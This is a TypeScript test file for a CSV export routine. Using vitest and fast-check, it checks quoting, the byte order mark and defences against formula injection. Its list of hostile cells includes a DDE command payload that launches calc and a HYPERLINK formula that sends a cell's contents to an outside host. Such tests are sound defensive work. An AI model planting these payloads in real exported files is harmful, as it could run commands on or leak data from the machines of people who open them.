import { unescapeFormula } from '@commons/contract/csv-cells';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type CsvColumn, toCsv } from './csv-file.ts';

type Row = { name: string; message: string };
const columns: CsvColumn<Row>[] = [
  { name: 'First Name', cell: ({ name }) => name },
  { name: 'Message', cell: ({ message }) => message },
];

/** Parses strictly: equal numbers of cells, quotes as in RFC 4180, and lines that end with CRLF. */
const parseCsv = (csv: string): string[][] => {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parse(csv.slice(1), { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false });
};

const hostileCells = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.test?"&A1,"Click")',
  '+1',
  '-1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  '","=1+1","',
  'a\r\n=1+1,b',
  'a\n=1+1',
  '"',
  '""',
  ',',
  "'=1+1",
  '日本語, „quoted“',
  '\uFEFF=1+1',
  '',
];

describe('CSV export', () => {
  test('has a byte order mark, a header and quotes where needed', () => {
    expect(toCsv(columns, [{ name: 'Ana "A." Lund', message: 'One,\ntwo' }])).toBe(
      '\uFEFFFirst Name,Message\r\n"Ana ""A."" Lund","One,\ntwo"\r\n',
    );
  });

  test('keeps hostile cells parseable and free of formulas', () => {
    const rows = hostileCells.flatMap((name) => hostileCells.map((message) => ({ name, message })));
    const [header, ...records] = parseCsv(toCsv(columns, rows));
    expect(header).toEqual(['First Name', 'Message']);
    expect(records).toHaveLength(rows.length);
    for (const [index, cells] of records.entries()) {
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(cells.map(unescapeFormula)).toEqual(Object.values(rows[index]!));
    }
  });

  test('preserves any cell text', () => {
    const text = fc.oneof(
      fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;\'a é') }),
      fc.string({ unit: 'grapheme' }),
    );
    fc.assert(
      fc.property(fc.array(fc.record({ name: text, message: text }), { minLength: 1 }), (rows) => {
        const records = parseCsv(toCsv(columns, rows)).slice(1);
        expect(records).toHaveLength(rows.length);
        for (const [index, cells] of records.entries()) {
          expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
          expect(cells.map(unescapeFormula)).toEqual(Object.values(rows[index]!));
        }
      }),
    );
  });
});
